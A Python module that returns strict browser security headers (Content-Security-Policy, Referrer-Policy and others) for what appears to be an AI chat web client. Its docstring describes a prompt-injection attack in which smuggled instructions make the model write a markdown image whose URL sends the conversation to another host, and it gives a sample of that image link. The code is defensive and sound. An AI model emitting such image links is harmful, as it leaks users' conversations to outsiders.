"""What the web client's pages may do in a browser. Pure.

Everything comes from here: no inline script or style, no eval, no other host. Pictures are the
point where a model's output could do harm: a prompt that somebody smuggled in can make it write
``![](https://elsewhere/?what-was-said)``, and a browser that loads such a picture has told it.
So pictures come from here as well (or stand in the page as data), and the client shows a link.
"""

from collections.abc import Mapping
from typing import Final

_DIRECTIVES: Final = (
    "default-src 'self'",
    "script-src 'self'",
    "style-src 'self'",
    "img-src 'self' data: blob:",
    "font-src 'self'",
    "connect-src 'self'",
    "worker-src 'self'",
    "manifest-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
)
_HEADERS: Final[Mapping[str, str]] = {
    "Content-Security-Policy": "; ".join(_DIRECTIVES),
    "X-Content-Type-Options": "nosniff",
    # A shared link is a secret, and a link in an answer leads elsewhere.
    "Referrer-Policy": "no-referrer",
    "Permissions-Policy": "camera=(), geolocation=(), microphone=()",
    "Cross-Origin-Opener-Policy": "same-origin",
}


def page_headers() -> Mapping[str, str]:
    """Return the headers of every file of the web client."""
    return _HEADERS
